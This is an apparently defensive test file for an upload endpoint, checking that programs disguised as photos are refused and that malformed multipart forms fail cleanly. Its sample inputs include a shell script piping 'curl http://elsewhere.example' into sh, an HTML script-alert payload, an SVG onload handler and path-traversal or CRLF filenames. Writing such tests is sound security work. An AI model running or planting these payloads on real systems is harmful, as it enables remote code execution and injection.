/** A photo that is a program, through the real door: refused by name, nothing kept, no report with it. */
import { randomBytes } from 'node:crypto'
import { readdirSync } from 'node:fs'
import fc from 'fast-check'
import pg from 'pg'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { jpeg, zip } from '../../kernel/files/samples.ts'
import * as contract from '../../modules/casework/contract.ts'
import { openCity } from '../support/city.ts'
import type { City, Someone } from '../support/city.ts'

const FACTOR = Number(process.env['ORDEAL_FUZZ'] ?? 1)
const SEED = Number(process.env['ORDEAL_SEED'] ?? 20_260_302)

let city: City
let owner: pg.Client
let resident: Someone
let stranger: Someone
let place: { id: string }

beforeAll(async () => {
  city = await openCity('daqing')
  owner = new pg.Client({ connectionString: city.ownerUrl })
  await owner.connect()
  resident = await city.resident('居民')
  stranger = await city.resident('路人')
  place = await city.place('DQ-230602013001-01')
}, 120_000)
afterAll(async () => {
  await owner?.end()
  await city?.close()
})

/** One file part; the name is what the client says, the content what it is. */
const form = (content: Buffer, name: string, boundary = '----linli') =>
  Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/jpeg\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ])
const send = (who: Someone | null, payload: Buffer, boundary = '----linli') =>
  city.app.inject({
    method: 'POST',
    url: '/api/kernel/upload',
    headers: {
      'x-linli': '1',
      'content-type': `multipart/form-data; boundary=${boundary}`,
      ...(who?.person ? { 'x-test-person': who.person } : {}),
    },
    payload,
  })
const count = async (table: string) =>
  Number((await owner.query<{ n: string }>(`SELECT count(*) AS n FROM ${table}`)).rows[0]!.n)
const stored = () =>
  readdirSync(city.filesFolder, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())

const windows = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), randomBytes(2000)])
const linux = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), randomBytes(2000)])
const programs: [string, string, Buffer][] = [
  ['a Windows program called photo.jpg', '照片.jpg', windows],
  ['a Linux program called photo.jpeg', 'photo.jpeg', linux],
  ['a script called photo.png', 'photo.png', Buffer.from('#!/bin/sh\ncurl http://elsewhere.example | sh\n')],
  ['a page called photo.jpg', 'photo.jpg', Buffer.from('<!doctype html><script>alert(1)</script>')],
  [
    'a drawing with a script',
    'photo.svg',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
  ],
  ['an archive of programs called table.xlsx', '表.xlsx', zip({ 'setup.exe': 'MZ' })],
]

it.each(programs)('%s is refused by name, and nothing of it stays', async (_what, name, content) => {
  const answer = await send(resident, form(content, name))
  expect(answer.statusCode).toBe(415)
  expect(answer.headers['content-type']).toContain('application/problem+json')
  expect(answer.json()).toMatchObject({
    code: 'files.not-accepted',
    title: expect.stringContaining('按内容'),
  })
  expect(await count('kernel.file')).toBe(0)
  expect(stored()).toEqual([])
})

it('a photo with a program behind its end arrives as a photo only', async () => {
  const answer = await send(resident, form(Buffer.concat([jpeg, windows]), '照片.jpg'))
  expect(answer.statusCode, answer.body).toBe(200)
  const { id } = answer.json<{ id: string }>()
  const kept = await city.app.inject({
    url: `/api/kernel/file/${id}`,
    headers: { 'x-test-person': resident.person! },
  })
  expect(kept.headers['content-type']).toBe('image/jpeg')
  expect(kept.rawPayload.includes(windows.subarray(0, 200))).toBe(false)
  expect(kept.rawPayload.length).toBeGreaterThan(100)
})

it('a report with somebody else’s photo, or with one twice, is not filed at all', async () => {
  const { ref } = (await send(resident, form(jpeg, '照片.jpg'))).json<{ ref: string }>()
  const before = await city.read(async (ctx) =>
    ctx.tx.first<{ n: bigint }>('SELECT count(*) AS n FROM flow.matter'),
  )
  const file = (who: Someone, photos: string[]) =>
    city.call(who, contract.fileReport, {
      text: '楼下垃圾堆了三天没人收',
      place: place.id,
      confidentiality: 'named',
      contactName: '居民',
      contactPhone: '13800000000',
      photos,
    })
  expect(await file(stranger, [ref])).toMatchObject({ status: 403, body: { code: 'files.not-yours' } })
  const after = await city.read(async (ctx) =>
    ctx.tx.first<{ n: bigint }>('SELECT count(*) AS n FROM flow.matter'),
  )
  expect(after).toEqual(before)
  expect(await file(resident, [ref])).toMatchObject({ status: 200 })
  expect(await file(resident, [ref])).toMatchObject({ status: 403, body: { code: 'files.not-yours' } })
})

it(
  'forms torn, doubled, misnamed or made of noise are refused by name',
  async () => {
    const whole = form(jpeg, '照片.jpg')
    const cut = fc.nat({ max: whole.length - 1 }).map((at) => whole.subarray(0, at))
    const noise = fc.uint8Array({ maxLength: 600 }).map((bytes) => form(Buffer.from(bytes), '照片.jpg'))
    const names = fc
      .oneof(
        fc.string({ unit: 'binary', maxLength: 300 }),
        fc.constantFrom('', '..', '/', '\0', 'a\r\nb', '"', '%00'),
      )
      .map((name) => form(jpeg, name))
    const flipped = fc.tuple(fc.nat({ max: whole.length - 1 }), fc.nat({ max: 255 })).map(([at, value]) => {
      const changed = Buffer.from(whole)
      changed[at] = value
      return changed
    })
    const doubled = fc.constant(Buffer.concat([whole, whole]))
    const bodies = fc.sample(fc.oneof(cut, noise, names, flipped, doubled), {
      numRuns: 60 * FACTOR,
      seed: SEED,
    })
    const odd: string[] = []
    const tried = async (body: Buffer) => {
      const answer = await send(resident, body)
      const isProblem = String(answer.headers['content-type']).startsWith('application/problem+json')
      const fine = answer.statusCode === 200 || (answer.statusCode < 500 && isProblem && answer.json().code)
      if (!fine)
        odd.push(
          `${answer.statusCode} ${answer.body.slice(0, 300)} for ${body.toString('latin1').slice(0, 200)}`,
        )
    }
    // Side by side: one that stays incomplete is waited for ten seconds.
    for (let from = 0; from < bodies.length; from += 20)
      await Promise.all(bodies.slice(from, from + 20).map(tried))
    expect(odd).toEqual([])
  },
  300_000 + FACTOR * 30_000,
)
